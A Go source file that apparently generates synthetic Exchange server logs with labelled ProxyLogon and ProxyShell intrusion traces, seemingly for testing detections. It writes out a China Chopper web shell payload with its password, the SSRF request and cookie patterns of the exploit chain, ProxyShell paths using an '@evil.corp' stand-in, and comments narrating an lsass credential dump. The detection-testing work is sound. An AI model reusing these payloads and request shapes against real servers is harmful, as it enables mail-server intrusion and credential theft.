package sample

import (
	"time"
)

// The planted ProxyLogon actor. 167.99.168.251 is on Volexity's list
// (detections.md 4.4); the user agents are theirs too (4.3).
const (
	AttackerIP     = "167.99.168.251"
	ProxyShellIP   = "45.77.252.175" // TrustedSec list, used for the August ProxyShell attempt
	ShellPath      = `C:\inetpub\wwwroot\aspnet_client\system_web\log.aspx`
	ShellURL       = "/aspnet_client/system_web/log.aspx"
	ShellPassword  = "klk123456"
	uaPython       = "python-requests/2.25.1"
	uaEWSClient    = "ExchangeServicesClient/0.0.0.0"
	uaAntSword     = "antSword/v2.1"
	exploitBEVer   = 1942062522 // the "~1942062522" of the public exploit cookie: 15.1.1466
	exploitBEVerTx = "15.01.1466.000"
)

// ChopperURL is the OAB ExternalUrl the attacker sets (detections.md 5).
const ChopperURL = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["` + ShellPassword + `"],"unsafe");}</script>`

func day(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 0, 0, 0, 0, time.UTC) }

func ms(t time.Time, h, mi, s, milli int) time.Time {
	return t.Add(time.Duration(h)*time.Hour + time.Duration(mi)*time.Minute + time.Duration(s)*time.Second + time.Duration(milli)*time.Millisecond)
}

// mark labels a planted line; Path, Line and Source are filled in when
// the tree is rendered.
func mark(kind, note string) *Mark { return &Mark{Kind: kind, Note: note} }

// compromised: EX01, Exchange 2016 CU18 unpatched, ProxyLogon chain on
// 27 Feb 2021, web shell use until 1 Mar, a failed ProxyShell attempt on
// 13 Aug 2021 after patching.
func compromised() *Tree {
	b := newBuilder(Compromised)
	s := newServer(20210227, "EX01", "10.0.1.25", "15.01.2106.002", 70, "S-1-5-21-2934109731-1833427845-3318766214")
	s.b = b
	b.extra = append(b.extra, s.applicationHost())
	probes := []string{"Mapi", "Owa", "Ecp"}
	for _, d := range []time.Time{day(2021, 2, 26), day(2021, 2, 27), day(2021, 2, 28), day(2021, 3, 1), day(2021, 3, 2)} {
		n := 200
		if d.Weekday() == time.Saturday || d.Weekday() == time.Sunday {
			n = 70
		}
		s.normalDay(d, n, probes)
	}
	s.scannerNoiseFeb(day(2021, 2, 26))
	s.chain(day(2021, 2, 27))
	s.webShell()
	s.reentry(day(2021, 2, 28), day(2021, 3, 1))
	s.postDisclosureProbes(day(2021, 3, 2))

	// August: the server was patched to CU21 with the July 2021 SU in
	// March's aftermath; ProxyShell now fails with 401.
	s.setVersion("15.01.2308.014")
	aug := day(2021, 8, 13)
	s.normalDay(aug, 180, probes)
	s.proxyShellAttempt(aug)
	s.eventLogs(b, s.compromisedEvents)
	s.compromisedFiles(b)
	return b.tree()
}

// ssrf writes one step of the ProxyLogon SSRF: POST /ecp/y.js with an
// X-BEResource cookie that sends the front end to a back-end path.
func (s *server) ssrf(t time.Time, ua, path string, status int, beStem, beQuery, beUser, kind, note string) {
	anchor := "ServerInfo~a]@" + s.fqdn + ":444" + path
	s.emit(&request{t: t, method: "POST", stem: "/ecp/y.js", proto: "Ecp", clientIP: AttackerIP, ua: ua, status: status, taken: 150 + s.r.IntN(500),
		anchor: anchor, routingHint: "X-BEResource-Cookie", routingType: "CrossRegion", target: s.fqdn, targetVer: exploitBEVerTx, beVersion: exploitBEVer,
		beStem: beStem, beQuery: beQuery, beUser: beUser,
		feMark: mark(kind, note), pxMark: mark(kind, note+"; AnchorMailbox "+anchor), beMark: mark(kind, "back end of "+note)})
}

func (s *server) chain(d time.Time) {
	c := canary(s.r)
	admin := s.domain + `\administrator`
	machine := s.domain + `\` + s.name + "$"
	ident := "'" + s.oabVD + "'"
	ddi := "/ecp/DDI/DDIService.svc/"

	// Recon: the logon page gives the build in its resource paths.
	t := ms(d, 19, 53, 31, 402)
	s.emit(&request{t: t, method: "GET", stem: "/owa/auth/logon.aspx", query: "url=https%3a%2f%2f" + s.ext + "%2fowa%2f&reason=0", proto: "Owa",
		clientIP: AttackerIP, ua: uaPython, status: 200, encoding: true, authType: "FBA", noBackend: true, taken: 12,
		feMark: mark("proxylogon.recon", "attacker fetches the OWA logon page (build number)")})

	s.ssrf(ms(d, 19, 53, 36, 865), uaEWSClient, "/autodiscover/autodiscover.xml?#", 200, "/autodiscover/autodiscover.xml", "", machine,
		"proxylogon.ssrf.autodiscover", "step 1: SSRF to autodiscover.xml (legacyDN of administrator@contoso.com)")
	s.ssrf(ms(d, 19, 53, 37, 329), uaPython, "/mapi/emsmdb/?#", 200, "/mapi/emsmdb/", "", machine,
		"proxylogon.ssrf.mapi", "step 2: SSRF to /mapi/emsmdb (administrator SID)")
	s.ssrf(ms(d, 19, 53, 38, 288), uaPython, "/ecp/proxyLogon.ecp?#", 241, "/ecp/proxyLogon.ecp", "", admin,
		"proxylogon.ssrf.proxylogon", "step 3: SSRF to /ecp/proxyLogon.ecp, HTTP 241 = ECP session as administrator")

	getQ := "msExchEcpCanary=" + c + "&schema=OABVirtualDirectory"
	s.ecp(ms(d, 19, 53, 46, 201), "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", ddi+"GetObject?"+getQ, "", nil)
	s.ssrf(ms(d, 19, 53, 46, 310), uaPython, ddi+"GetObject?"+getQ+"#", 200, ddi+"GetObject", getQ, admin,
		"proxylogon.ssrf.ddi-getobject", "step 4: DDIService GetObject schema=OABVirtualDirectory")

	s.ecp(ms(d, 19, 53, 48, 772), "Set-OabVirtualDirectory.ExternalUrl='"+ChopperURL+"'.Identity="+ident, ddi+"SetObject?"+getQ, "",
		mark("proxylogon.ecp.set-oab-externalurl", "CVE-2021-27065: OAB ExternalUrl set to a China Chopper script"))
	s.ecp(ms(d, 19, 53, 48, 834), "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity="+ident, ddi+"SetObject?"+getQ, "", nil)
	s.ssrf(ms(d, 19, 53, 48, 851), uaPython, ddi+"SetObject?"+getQ+"#", 200, ddi+"SetObject", getQ, admin,
		"proxylogon.ssrf.ddi-setobject", "step 5: DDIService SetObject schema=OABVirtualDirectory (writes the Chopper ExternalUrl)")

	resetQ := "msExchEcpCanary=" + c + "&schema=ResetOABVirtualDirectory"
	rt := ms(d, 19, 53, 53, 284)
	s.ecp(rt, "Get-OABVirtualDirectory.Identity="+ident, ddi+"SetObject?"+resetQ, "", nil)
	s.ecp(rt.Add(136*time.Millisecond), "Get-ExchangeServer.Identity='"+s.name+"'", ddi+"SetObject?"+resetQ, "", nil)
	s.ecp(rt.Add(2433*time.Millisecond), "Remove-OABVirtualDirectory.Force=$true.Identity='"+s.name+`\OAB (Default Web Site)'`, ddi+"SetObject?"+resetQ, "",
		mark("proxylogon.ecp.reset-oab", "ResetOABVirtualDirectory: the OAB VD is removed and its settings (with the script) exported to the shell path"))
	s.oab(rt.Add(5012*time.Millisecond), "Warning", "Download failed and temporary file '\\\\?\\"+ShellPath+"' needs to be removed",
		mark("proxylogon.oab.download-failed-outside-oab", "CVE-2021-26858 trace: file written outside ClientAccess\\OAB ("+ShellPath+")"))
	s.ecp(rt.Add(10112*time.Millisecond), "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='"+s.name+"'.Role='ClientAccess'.InternalURL='https://"+s.fqdn+"/OAB'.Path='"+InstallPath+`FrontEnd\HttpProxy\OAB'`, ddi+"SetObject?"+resetQ, "", nil)
	s.ssrf(rt.Add(10190*time.Millisecond), uaPython, ddi+"SetObject?"+resetQ+"#", 200, ddi+"SetObject", resetQ, admin,
		"proxylogon.ssrf.ddi-reset", "step 6: DDIService SetObject schema=ResetOABVirtualDirectory, HTTP 200 (shell written)")

	ct := rt.Add(13 * time.Second)
	s.ecp(ct, "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='"+s.name+`\OAB (Default Web Site)'`, ddi+"SetObject?"+getQ, "",
		mark("proxylogon.ecp.set-oab-null", "attacker clears ExternalUrl again (no markup; CHIRP-style prefix rules match it)"))
	s.ssrf(ct.Add(77*time.Millisecond), uaPython, ddi+"SetObject?"+getQ+"#", 200, ddi+"SetObject", getQ, admin,
		"proxylogon.ssrf.ddi-setobject", "step 7: DDIService SetObject schema=OABVirtualDirectory (ExternalUrl cleared)")
}

// shellReq is one request to the dropped web shell.
func (s *server) shellReq(t time.Time, method, ua string, status, sub, win32 int, kind, note string) {
	s.emit(&request{t: t, method: method, stem: ShellURL, clientIP: AttackerIP, ua: ua, status: status, sub: sub, win32: win32,
		noCafe: true, taken: 90 + s.r.IntN(900), feMark: mark(kind, note)})
}

func (s *server) webShell() {
	d := day(2021, 2, 27)
	s.shellReq(ms(d, 19, 54, 22, 0), "GET", uaPython, 200, 0, 0, "webshell.check", "attacker checks that log.aspx exists (200)")
	s.shellReq(ms(d, 20, 2, 41, 0), "POST", uaAntSword, 200, 0, 0, "webshell.post", "China Chopper POST (body not logged; narrative: whoami)")
	s.shellReq(ms(d, 20, 2, 58, 0), "POST", uaAntSword, 200, 0, 0, "webshell.post", "China Chopper POST (body not logged; narrative: ipconfig)")
	s.shellReq(ms(d, 20, 4, 13, 0), "POST", uaAntSword, 200, 0, 0, "webshell.post", "China Chopper POST (body not logged; narrative: dir)")
	d = day(2021, 2, 28)
	for i, tm := range [][3]int{{2, 14, 5}, {2, 14, 37}, {2, 15, 2}, {2, 17, 49}, {2, 21, 11}} {
		note := []string{"lsass dump via comsvcs.dll", "dump staged", "7z archive", "download", "download"}[i]
		s.shellReq(ms(d, tm[0], tm[1], tm[2], 0), "POST", uaAntSword, 200, 0, 0, "webshell.post", "China Chopper POST (body not logged; narrative: "+note+")")
	}
	d = day(2021, 3, 1)
	s.shellReq(ms(d, 16, 5, 9, 0), "POST", uaAntSword, 200, 0, 0, "webshell.post", "China Chopper POST")
	s.shellReq(ms(d, 16, 6, 30, 0), "POST", uaAntSword, 200, 0, 0, "webshell.cleanup", "China Chopper POST (body not logged; narrative: the shell deletes itself)")
	s.shellReq(ms(d, 16, 7, 2, 0), "GET", uaPython, 404, 0, 2, "webshell.gone", "the shell is gone: 404 0 2 (file not found)")
	// An administrator restarts IIS that evening: IIS writes its header
	// block again in the middle of the day's file.
	rt := ms(d, 18, 30, 0, 0)
	h := iisHeader(rt)
	s.b.add(s.iisPath(1, rt), kIIS, "", rt, h[:len(h)-2], nil)
}

// reentry: the same actor comes back; on 28 Feb it stops after
// autodiscover, on 1 Mar it gets an ECP session again (CSS-Exchange #100).
func (s *server) reentry(d1, d2 time.Time) {
	machine := s.domain + `\` + s.name + "$"
	s.ssrf(ms(d1, 15, 14, 9, 180), uaEWSClient, "/autodiscover/autodiscover.xml?#", 200, "/autodiscover/autodiscover.xml", "", machine,
		"proxylogon.ssrf.autodiscover", "re-entry: autodiscover only")
	s.ssrf(ms(d2, 15, 34, 47, 336), uaEWSClient, "/autodiscover/autodiscover.xml?#", 200, "/autodiscover/autodiscover.xml", "", machine,
		"proxylogon.ssrf.autodiscover", "re-entry step 1")
	s.ssrf(ms(d2, 15, 34, 47, 465), uaPython, "/mapi/emsmdb/?#", 200, "/mapi/emsmdb/", "", machine,
		"proxylogon.ssrf.mapi", "re-entry step 2")
	s.ssrf(ms(d2, 15, 34, 48, 149), uaPython, "/ecp/proxyLogon.ecp?#", 241, "/ecp/proxyLogon.ecp", "", s.domain+`\administrator`,
		"proxylogon.ssrf.proxylogon", "re-entry step 3 (HTTP 241)")
}

// localhostProbe is the mass-scanner check for CVE-2021-26855
// (Microsoft's nse and its clones): GET /owa/auth/x.js with
// X-AnonResource-Backend=localhost/ecp/default.flt?~3; the front end
// logs a 500 and never reaches a back end.
func (s *server) localhostProbe(t time.Time, ip, ua string, m *Mark) {
	s.emit(&request{t: t, method: "GET", stem: "/owa/auth/x.js", proto: "Owa", clientIP: ip, ua: ua, status: 500, taken: 300 + s.r.IntN(200),
		authType: "FBA", anchor: "ServerInfo~localhost/ecp/default.flt?", target: "localhost", targetVer: "0.00.0003.000",
		routingType: "CrossRegion", routingHint: "X-AnonResource-Backend-Cookie", beVersion: 3, noBackend: true, rowProxy: true,
		feMark: m, pxMark: m})
}

func (s *server) zgrab(t time.Time, ip string, m *Mark) {
	ua := "Mozilla/5.0 zgrab/0.x"
	s.emit(&request{t: t, method: "GET", stem: "/", clientIP: ip, ua: ua, status: 302, noCafe: true, taken: 1, feMark: m})
	s.emit(&request{t: t.Add(420 * time.Millisecond), method: "GET", stem: "/owa/", proto: "Owa", clientIP: ip, ua: ua, status: 302, encoding: true,
		authType: "FBA", noBackend: true, taken: 2, feMark: m, pxMark: m})
}

func (s *server) scannerNoiseFeb(d time.Time) {
	s.zgrab(ms(d, 4, 12, 40, 118), "198.51.100.201", mark("scanner.zgrab", "zgrab banner grab"))
	s.zgrab(ms(d, 22, 51, 3, 640), "203.0.113.87", mark("scanner.zgrab", "zgrab banner grab"))
}

func (s *server) postDisclosureProbes(d time.Time) {
	uas := []string{
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/69.0.3497.81 Safari/537.36",
		"Mozilla/5.0 (Exchange check)",
	}
	ips := []string{"192.0.2.147", "198.51.100.23", "203.0.113.201"}
	for i, h := range []int{3, 9, 17, 21} {
		s.localhostProbe(s.at(d, h), ips[i%len(ips)], uas[i%2], mark("scanner.localhost-probe", "CVE-2021-26855 scanner: ServerInfo~localhost, HTTP 500"))
	}
	s.zgrab(s.at(d, 12), "192.0.2.66", mark("scanner.zgrab", "zgrab banner grab"))
}

// proxyShellAttempt: the August 2021 ProxyShell chain against the now
// patched server; every step gets 401.
func (s *server) proxyShellAttempt(d time.Time) {
	ua := "python-requests/2.26.0"
	sfx := "&Email=autodiscover/autodiscover.json%3F@evil.corp"
	steps := []struct {
		method, path, note string
	}{
		{"GET", "@evil.corp/owa/?", "ProxyShell probe via /owa"},
		{"POST", "@evil.corp/autodiscover/autodiscover.xml?", "ProxyShell step 1: autodiscover.xml (legacyDN)"},
		{"POST", "@evil.corp/mapi/nspi/?", "ProxyShell step 2: /mapi/nspi (SID)"},
		{"POST", "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhhZG1pbmlzdHJhdG9yQGNvbnRvc28uY29tVSxTLTEtNS0yMS0yOTM0MTA5NzMxLTE4MzM0Mjc4NDUtMzMxODc2NjIxNC01MDBFAAAAAA==", "ProxyShell step 3: /powershell with X-Rps-CAT"},
	}
	t := ms(d, 14, 2, 11, 519)
	for _, st := range steps {
		q := st.path + sfx
		s.emit(&request{t: t, method: st.method, stem: "/autodiscover/autodiscover.json", query: q, proto: "Autodiscover",
			clientIP: ProxyShellIP, ua: ua, status: 401, taken: 3 + s.r.IntN(10), noBackend: true,
			feMark: mark("proxyshell.attempt", st.note+": 401 (server patched)"),
			pxMark: mark("proxyshell.attempt", st.note+": 401 (server patched)")})
		t = t.Add(time.Duration(900+s.r.IntN(1500)) * time.Millisecond)
	}
}
